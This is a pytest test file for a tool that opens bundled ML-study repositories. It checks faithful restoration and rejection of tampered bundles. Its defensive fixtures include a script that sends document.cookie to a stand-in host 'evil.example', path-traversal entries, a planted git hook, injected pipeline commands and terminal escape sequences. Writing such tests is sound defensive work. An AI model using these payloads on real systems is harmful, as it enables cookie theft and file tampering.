"""`dataenvgym open`: the same study elsewhere, and a stranger's file that does no harm."""

import errno
import json
import re
import shutil
import signal
import socket
import subprocess
import sys
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from tests.support.bundles import Parts, bundled, md5, parts_of, report_of, sha256, with_results
from tests.support.commands import environment
from tests.support.repositories import call, expect_refusal, new_repo
from tests.support.specs import SMALL

Result = subprocess.CompletedProcess[str]


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a repository whose small study has results, and its whole bundle."""
    folder = tmp_path_factory.mktemp("made")
    bundled(with_results(new_repo(folder / "repo", SMALL)), folder / "tiny.gz")
    return folder


@pytest.fixture
def bundle(made: Path, tmp_path: Path) -> Path:
    return Path(shutil.copy(made / "tiny.gz", tmp_path / "tiny.gz"))


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """No other machine can be reached; who tried to."""
    tried: list[object] = []

    def refuse(_self: object, address: object, *_: object) -> None:
        tried.append(address)
        raise OSError(errno.ENETUNREACH, "no network")

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse)
    monkeypatch.setattr(socket, "getaddrinfo", lambda host, *_, **__: refuse(None, host))
    return tried


def added(bundle: Path) -> Result:
    """Opens a bundle in a repository without a spec; making one anew takes twice as long."""
    shutil.rmtree(new_repo(bundle.parent / "there", SMALL) / "specs")
    return opened(bundle)


def opened(bundle: Path, into: str = "there", ok: bool = True, **more: str) -> Result:
    command = ("dataenvgym", "open", str(bundle), "--into", into)
    return call(*command, cwd=bundle.parent, ok=ok, **more)


def names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def below(folder: Path) -> dict[str, bytes]:
    """The files of a repository as git and DVC see them, without what belongs to a clone alone."""
    found = {}
    for path in sorted(folder.rglob("*")):
        name = path.relative_to(folder).as_posix()
        own = name.startswith((".git/", ".dataenvgym/", ".dvc/tmp", "schemas/"))
        if path.is_file() and not own:
            found[name] = path.read_bytes()
    return found


def travelling(repo: Path) -> dict[str, bytes]:
    """The files of a repository but for its report, which is made where it is read."""
    report = report_of(repo, b"what reports/tiny/index.html holds\n").objects
    stay = {f".dvc/cache/files/md5/{digest[:2]}/{digest[2:]}" for digest in report} | {"dvc.lock"}
    files = below(repo)
    assert files.keys() >= stay
    return {name: content for name, content in files.items() if name not in stay}


def test_it_is_the_same_repository_and_no_network_is_needed(
    made: Path, bundle: Path, asked: list[object]
) -> None:
    said = opened(bundle).stdout
    assert "opened 'tiny' in 'there', made by dataenvgym-spec" in said
    assert "same keys: all 15 stages" in said
    assert said.endswith(
        "  cd there\n  dvc repro tiny   # runs no stage, and makes the report\n"
        "  dataenvgym report tiny\n"
    )
    ours, theirs = travelling(made / "repo"), below(bundle.parent / "there")
    differing = {name for name in ours.keys() & theirs.keys() if ours[name] != theirs[name]}
    assert not differing
    assert ours.keys() ^ theirs.keys() <= {".gitignore", ".dvc/.gitignore"}
    assert names(bundle.parent) == ["there", "tiny.gz"]
    checked = call("dataenvgym", "compile", "--check", cwd=bundle.parent / "there").stdout
    assert checked == "up to date\n"
    plan = call("dataenvgym", "plan", cwd=bundle.parent / "there").stdout
    assert plan.startswith("tiny: 1 run, 15 restore\n")
    assert re.search(r"run +report +it was never made here\n", plan)
    verified = call("dataenvgym", "verify", cwd=bundle.parent / "there").stdout
    assert verified.endswith(": all that is here is what the locks say\n")
    assert asked == []


def test_its_own_bundle_is_the_same_bytes(bundle: Path, tmp_path: Path) -> None:
    added(bundle)
    assert bundled(tmp_path / "there", tmp_path / "again.gz").read_bytes() == bundle.read_bytes()


def test_it_is_opened_where_the_working_directory_is(bundle: Path, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    said = call("dataenvgym", "open", str(bundle), "--into", ".", cwd=tmp_path / "empty").stdout
    assert "next:\n  dvc repro tiny   # runs no stage" in said
    # Once more changes nothing.
    before = below(tmp_path / "empty")
    call("dataenvgym", "open", str(bundle), "--into", ".", cwd=tmp_path / "empty")
    assert below(tmp_path / "empty") == before


def test_it_is_added_to_a_repository(bundle: Path, tmp_path: Path) -> None:
    other = new_repo(tmp_path / "there", SMALL.replace("name: tiny", "name: mine"))
    (other / "specs" / "tiny.yaml").rename(other / "specs" / "mine.yaml")
    (other / "dvc.yaml").write_text("stages:\n  own: {cmd: 'true', deps: [specs]}\n")
    (other / "dvc.lock").write_text(
        "schema: '2.0'\nstages:\n  own: {cmd: other, params: {a: {b: 1}}}\n"
    )
    call("dataenvgym", "compile", cwd=other)
    before = below(other)
    said = opened(bundle).stdout
    assert "# runs no stage" in said
    after = below(other)
    changed = {name for name in before if before[name] != after.get(name)}
    assert changed == {"dvc.yaml"}
    assert b"  own:" in after["dvc.yaml"] and b"cmd: other" in after["dvc.lock"]
    steps = call("dataenvgym", "plan", "mine", cwd=other).stdout
    assert steps.startswith("mine: 15 restore, 1 run") or "mine: 1 run, 15 restore" in steps


def test_locks_of_specs_are_joined_where_they_agree(tmp_path: Path) -> None:
    first = new_repo(tmp_path / "first", SMALL)
    (first / "specs" / "prompts" / "tiny.j2").unlink()
    text = SMALL.replace("prompts/tiny.j2", "tiny.j2")
    (first / "specs" / "tiny.yaml").write_text(text, encoding="utf-8")
    (first / "specs" / "tiny.j2").write_text("{{ input }} =", encoding="utf-8")
    call("dataenvgym", "lock", cwd=first)
    bundle = bundled(first, tmp_path / "b.gz", "")
    other = new_repo(tmp_path / "there", SMALL.replace("name: tiny", "name: mine"))
    (other / "specs" / "tiny.yaml").rename(other / "specs" / "mine.yaml")
    path = other / "specs" / "dataenvgym.lock.json"
    theirs = json.loads((first / "specs" / "dataenvgym.lock.json").read_text(encoding="utf-8"))
    component, pinned = next(iter(theirs["components"].items()))
    own = {"format": 1, "hub": {"model": {"a/b": {"main": "0" * 40}}, "dataset": {}}, "files": {}}
    own |= {"components": {component: pinned}, "stages": theirs["stages"]}
    path.write_text(json.dumps(own), encoding="utf-8")
    opened(bundle)
    joined = json.loads(path.read_text(encoding="utf-8"))
    assert joined == {**theirs, "hub": own["hub"]}
    call("dataenvgym", "compile", cwd=other)
    own["components"] = {component: {**pinned, "version": 99}}
    path.write_text(json.dumps(own), encoding="utf-8")
    before = below(other)
    expect_refusal(opened(bundle, ok=False), f"pins '{component}' otherwise", "in a new folder")
    assert below(other) == before


def test_nothing_that_differs_is_overwritten(bundle: Path, tmp_path: Path) -> None:
    added(bundle)
    there = tmp_path / "there"
    (there / "specs" / "tiny.yaml").write_text(SMALL + "# mine\n", encoding="utf-8")
    (there / "specs" / "prompts" / "tiny.j2").write_text("mine", encoding="utf-8")
    (lock,) = there.glob("store/skills-*/dvc.lock")
    text = lock.read_text(encoding="utf-8")
    first, mark, rest = text.rpartition("md5: ")
    lock.write_text(f"{first}{mark}{'0' * 32}{rest[32:]}", encoding="utf-8")
    before = below(there)
    result = opened(bundle, ok=False)
    expect_refusal(
        result,
        "'specs/prompts/tiny.j2', 'specs/tiny.yaml'",
        f"'store/{lock.parent.name}/dvc.lock' would be overwritten",
        "open it in a new folder",
    )
    assert below(there) == before


def test_a_damaged_object_of_the_cache_is_told(bundle: Path, tmp_path: Path) -> None:
    added(bundle)
    path = next((tmp_path / "there" / ".dvc" / "cache" / "files" / "md5").glob("*/*"))
    path.chmod(0o644)
    path.write_bytes(b"other")
    expect_refusal(opened(bundle, ok=False), "in DVC's cache is damaged", "remove it")
    assert path.read_bytes() == b"other"


def test_a_folder_in_which_none_can_be_opened(bundle: Path, tmp_path: Path) -> None:
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "x").touch()
    expect_refusal(opened(bundle, "full", ok=False), "holds other files", "dataenvgym init")
    expect_refusal(opened(bundle, "tiny.gz", ok=False), "is no folder")
    (tmp_path / "link").symlink_to("nowhere")
    expect_refusal(opened(bundle, "link", ok=False), "is no folder")
    outer = new_repo(tmp_path / "outer", SMALL)
    result = opened(bundle, str(outer / "inner"), ok=False)
    expect_refusal(result, "would lie in the repository", f"--into {outer}")
    assert not (outer / "inner").exists()
    expect_refusal(
        opened(tmp_path / "none.gz", ok=False), "'", "cannot be read", "dataenvgym bundle"
    )
    assert names(tmp_path) == ["full", "link", "outer", "tiny.gz"]


def test_what_is_in_it_is_said_and_nothing_written(bundle: Path, tmp_path: Path) -> None:
    said = call("dataenvgym", "open", "--check", str(bundle), cwd=tmp_path).stdout
    assert "holds 'tiny', made by dataenvgym-spec" in said
    assert "results   of 15 of 15 stages" in said
    record = json.loads(
        call("dataenvgym", "open", "--check", "--json", str(bundle), cwd=tmp_path).stdout
    )
    assert record["spec"] == "specs/tiny.yaml"
    assert names(tmp_path) == ["tiny.gz"]


def test_programs_get_json(bundle: Path, tmp_path: Path) -> None:
    command = ("dataenvgym", "open", str(bundle), "--into", "there", "--json")
    record = json.loads(call(*command, cwd=tmp_path).stdout)
    assert record["same_keys"] and record["results"] == 15 and record["to_run"] == {"tiny": 0}


def test_without_students_it_says_what_can_be_done(made: Path, tmp_path: Path) -> None:
    bundle = bundled(made / "repo", tmp_path / "small.gz", "results")
    said = added(bundle).stdout
    assert "students  stay here" in said
    makes = (
        "dvc checkout --allow-missing\n  dvc repro --single-item tiny\n  dataenvgym report tiny\n"
    )
    assert makes in said
    assert re.search(r"dataenvgym run tiny   # \d stages to run", said)
    there = tmp_path / "there"
    call("dvc", "checkout", "-q", "--allow-missing", cwd=there)
    (train,) = there.glob("store/train-*")
    assert (train / "log").is_dir() and not (train / "out" / "student").exists()


def test_stages_without_results_are_named_and_to_run(made: Path, tmp_path: Path) -> None:
    repo = tmp_path / "partly"
    shutil.copytree(made / "repo", repo, symlinks=True)
    lost = sorted(path.name for path in repo.glob("store/evaluate-*"))
    for name in lost:
        (repo / "store" / name / "dvc.lock").unlink()
    command = ("dataenvgym", "bundle", "tiny", "--with", "results", "-o", "../small.gz", "--json")
    record = json.loads(call(*command, cwd=repo).stdout)
    assert len(lost) > 3 and set(record["missing"]) == set(lost)
    said = added(tmp_path / "small.gz").stdout
    first = next(line for line in said.splitlines() if line.startswith("            without "))
    assert first.endswith(f" and {len(lost) - 3} more")
    assert set(
        first.removesuffix(f" and {len(lost) - 3} more").split(maxsplit=1)[1].split(", ")
    ) < set(lost)
    # The report reads what is missing.
    assert "--single-item" not in said and "dataenvgym run tiny   #" in said


def test_without_results_all_is_to_run(made: Path, tmp_path: Path) -> None:
    bundle = bundled(made / "repo", tmp_path / "small.gz", "")
    assert "dataenvgym run tiny   # 15 stages to run" in added(bundle).stdout
    assert not list((tmp_path / "there").glob("store/*/dvc.lock"))


# --- a stranger's file ---------------------------------------------------------------------------

PAGE = b"<script>fetch('https://evil.example/?' + document.cookie)</script>"
EVIL = b"stages:\n  evil: {cmd: touch MARKER, always_changed: true}\n"


def another_student(parts: Parts) -> None:
    """A result that is not what DVC knows by its hash."""
    parts.replace_object(parts.manifest["objects"][0]["md5"], b"poison")


def listing(parts: Parts, path: str) -> None:
    """A result whose list of files leads elsewhere, under its right hash."""
    row = next(row for row in parts.manifest["objects"] if row["md5"].endswith(".dir"))
    old = row["md5"]
    (inner,) = json.loads(parts.members[row["sha256"]])
    text = json.dumps([{**inner, "relpath": path}]).encode()
    parts.replace_object(old, text, f"{md5(text)}.dir")
    whole = json.dumps(parts.manifest).replace(old, f"{md5(text)}.dir")
    parts.manifest = json.loads(whole)


def command_in_a_lock(parts: Parts) -> None:
    parts.manifest["stages"][0]["lock"]["cmd"] = "touch MARKER"


def output_elsewhere(parts: Parts) -> None:
    parts.manifest["stages"][0]["lock"]["outs"][0]["path"] = "../../../evil"


def lock_of_another_stage(parts: Parts) -> None:
    stages = parts.manifest["stages"]
    stages[0]["lock"], stages[-1]["lock"] = stages[-1]["lock"], stages[0]["lock"]


def result_of_nothing(parts: Parts) -> None:
    """What would lie in DVC's cache until a lock names it."""
    parts.object(md5(PAGE), PAGE)


def other_spec(parts: Parts) -> None:
    parts.rewrite("specs/tiny.yaml", SMALL.replace("examples: 30", "examples: 31").encode())


def torn_journal(parts: Parts) -> None:
    content = b'{"key": "a"}\n'
    parts.manifest["journal"] = {"responses": 1, **parts.add(content)}


def longer_journal(parts: Parts) -> None:
    row = b'{"key":"a","stage":"b","at":1.0,"reply":{}}\n'
    parts.manifest["journal"] = {"responses": 1, **parts.add(row * 2)}


HOSTILE: dict[str, tuple[Callable[[Parts], Any], str]] = {
    "a path outside": (lambda parts: parts.file("../evil"), "'../evil' has '..'"),
    "an absolute path": (lambda parts: parts.file("/tmp/evil"), "is absolute"),
    "a drive": (lambda parts: parts.file("C:/evil"), "no path on every system"),
    "a device": (lambda parts: parts.file("specs/AUX.yaml"), "is a device"),
    "a pipeline": (lambda parts: parts.file("dvc.yaml", EVIL), "git or DVC obeys"),
    "a pipeline in a folder": (
        lambda parts: parts.file("specs/dvc.yaml", EVIL),
        "git or DVC obeys",
    ),
    "a stage": (lambda parts: parts.file("store/evil-1/dvc.yaml", EVIL), "is where results are"),
    "a hook of git": (lambda parts: parts.file(".git/hooks/post-commit"), "is hidden"),
    "a repository of git": (lambda parts: parts.file("specs/HEAD"), "git or DVC obeys"),
    "a config of DVC": (lambda parts: parts.file(".dvc/config"), "is hidden"),
    "two cases of one path": (lambda parts: parts.file("Specs/TINY.yaml"), "one place"),
    "a file over a folder": (lambda parts: parts.file("specs"), "one place"),
    "a file that nothing names": (lambda parts: parts.file("torch.py"), "names no file 'torch.py'"),
    "poison in the cache": (another_student, "not what DVC knows by that hash"),
    "a result outside": (lambda parts: listing(parts, "../../../../evil"), "has '..'"),
    "a result that is a pipeline": (lambda parts: listing(parts, "dvc.yaml"), "git or DVC obeys"),
    "a command in a lock": (command_in_a_lock, "does not compile to"),
    "an output elsewhere": (output_elsewhere, "does not compile to"),
    "a lock of another stage": (lock_of_another_stage, "does not compile to"),
    "a content of no result": (result_of_nothing, "which is of no result"),
    "a page": (lambda parts: parts.file("reports/tiny/index.html", PAGE, code=True), "results are"),
    "a database of runs": (
        lambda parts: parts.file("mlflow.db", code=True),
        "a file of whoever opens it",
    ),
    "another cluster": (
        lambda parts: parts.file("hardware.yaml", b"ray: {address: 'evil:1'}\n", code=True),
        "a file of whoever opens it",
    ),
    "another spec": (other_spec, "does not compile to"),
    "a torn journal": (torn_journal, "cannot be read"),
    "a journal of another length": (longer_journal, "another number of responses"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_one_is_refused_before_anything_is_written(name: str, bundle: Path) -> None:
    change, words = HOSTILE[name]
    parts = parts_of(bundle)
    change(parts)
    parts.write(bundle)
    expect_refusal(opened(bundle, ok=False), "the bundle is refused", words, "nothing was written")
    assert names(bundle.parent) == ["tiny.gz"]


def test_a_report_that_comes_along_is_refused(made: Path, bundle: Path) -> None:
    """Its lock fits in all that can be checked, and its page holds whatever a stranger likes."""
    parts = parts_of(bundle)
    parts.plant(report_of(made / "repo", PAGE))
    parts.write(bundle)
    expect_refusal(opened(bundle, ok=False), "cannot be read", "unknown field `lock`")
    assert names(bundle.parent) == ["tiny.gz"]


def test_hostile_words_do_nothing_to_a_terminal(bundle: Path) -> None:
    parts = parts_of(bundle)
    parts.manifest["absent"] = [{"what": "\x1b[2J evil", "remedy": "\x1b]0;x\x07"}]
    parts.manifest["versions"]["dataenvgym-spec"] = "1\x1b[31m"
    parts.write(bundle)
    said = added(bundle).stdout
    assert "\\x1b[2J evil" in said and "\x1b" not in said and "\x07" not in said


def test_no_file_is_written_through_a_link(bundle: Path, tmp_path: Path) -> None:
    there = new_repo(tmp_path / "there", SMALL)
    (there / "specs" / "tiny.yaml").unlink()
    (tmp_path / "elsewhere").mkdir()
    shutil.rmtree(there / "specs")
    (there / "specs").symlink_to(tmp_path / "elsewhere")
    expect_refusal(opened(bundle, ok=False), "would be overwritten")
    assert names(tmp_path / "elsewhere") == []


def test_code_that_comes_along_is_named_and_not_run(bundle: Path, tmp_path: Path) -> None:
    parts = parts_of(bundle)
    text = f"open({str(tmp_path / 'MARKER')!r}, 'w')\n".encode()
    parts.file("tools/evil.py", text, code=True)
    parts.write(bundle)
    said = added(bundle).stdout
    assert "code in it, which nothing has executed; read it before you do: tools/evil.py" in said
    assert (tmp_path / "there" / "tools" / "evil.py").stat().st_mode & 0o111 == 0
    assert not (tmp_path / "MARKER").exists()


def test_another_release_keeps_what_still_has_its_key(bundle: Path) -> None:
    parts = parts_of(bundle)
    parts.manifest["versions"]["dataenvgym-spec"] = "0.0.1"
    row = parts.manifest["stages"][-1]
    row |= {"key": "f" * 64, "directory": f"{row['directory'].partition('-')[0]}-{'f' * 16}"}
    parts.manifest["experiments"][0] |= {"stages": []}
    parts.write(bundle)
    said = added(bundle).stdout
    assert "other keys: 1 of 15 stages have other keys" in said
    assert "install dataenvgym-spec 0.0.1" in said
    assert "dataenvgym run tiny   # 1 stage to run" in said
    # What has no stage here is not kept either.
    kept = len(list((bundle.parent / "there" / ".dvc" / "cache" / "files").glob("*/*/*")))
    assert 0 < kept < len(parts.manifest["objects"])


def test_a_full_disk_is_told_before_anything_is_written(
    bundle: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    usage = shutil.disk_usage(bundle.parent)._replace(free=1000)
    monkeypatch.setattr(shutil, "disk_usage", lambda _: usage)
    expect_refusal(opened(bundle, ok=False), "there are 1.0 kB free", "another disk")
    assert names(bundle.parent) == ["tiny.gz"]


# --- a kill --------------------------------------------------------------------------------------

KILLED = """
import os, signal, sys
from dataenvgym_spec.cli.main import main
left = int(sys.argv.pop(1))
def count(event, arguments):
    global left
    if event in ("os.rename", "open", "os.mkdir", "shutil.copyfile"):
        left -= 1
        if left < 0:
            os.kill(os.getpid(), signal.SIGKILL)
sys.addaudithook(count)
main()
"""


def killed_at(moments: Sequence[int], into: str, made: Path, bundle: Path) -> None:
    """Opens a bundle and is killed, again and again, a little later each time."""
    folder, there = bundle.parent, bundle.parent / "there"
    if into == "repository":
        new_repo(there, SMALL)
        shutil.rmtree(there / "specs")
    whole, killed = travelling(made / "repo"), 0
    for moment in moments:
        command = [
            sys.executable,
            "-c",
            KILLED,
            str(moment),
            "open",
            str(bundle),
            "--into",
            "there",
        ]
        done = subprocess.run(
            command, cwd=folder, env=environment(), capture_output=True, check=False, timeout=100
        )
        assert done.returncode in (0, -signal.SIGKILL), done.stderr
        killed += done.returncode != 0
        found = below(there) if there.exists() else {}
        for name in found.keys() & whole.keys() - {".dvc/config", ".dvcignore", ".gitignore"}:
            assert found[name] == whole[name] or name == "dvc.yaml", (moment, name)
        if into == "new" and there.exists():
            assert found.keys() >= whole.keys() - {".dvc/.gitignore"}, "all, or nothing"
    assert killed
    assert "same keys" in opened(bundle).stdout
    assert names(folder) == ["there", "tiny.gz"]
    assert (
        below(there).items() >= {name: whole[name] for name in whole if "." not in name[0]}.items()
    )


def test_a_kill_leaves_nothing_half(made: Path, bundle: Path) -> None:
    killed_at([900, 1500], "repository", made, bundle)


@pytest.mark.slow
@pytest.mark.parametrize("into", ["new", "repository"])
def test_a_kill_at_any_moment_leaves_nothing_half(into: str, made: Path, bundle: Path) -> None:
    killed_at(range(100, 3000, 90), into, made, bundle)


def test_two_at_once_do_not_meet(bundle: Path) -> None:
    from dataenvgym_spec.store.locks import held

    (bundle.parent / ".there.opening").mkdir()
    with held(bundle.parent / ".there.opening" / "lock"):
        expect_refusal(opened(bundle, ok=False), "another process opens a bundle", "wait until")
    assert not (bundle.parent / "there").exists()
    assert "same keys" in opened(bundle).stdout


def test_the_tampered_bundles_are_whole_but_for_one_thing(bundle: Path) -> None:
    """What is taken apart and put together again is opened: it is the change that is refused."""
    parts = parts_of(bundle)
    assert all(sha256(data) == name for name, data in parts.members.items())
    parts.write(bundle)
    assert "same keys: all 15 stages" in opened(bundle).stdout
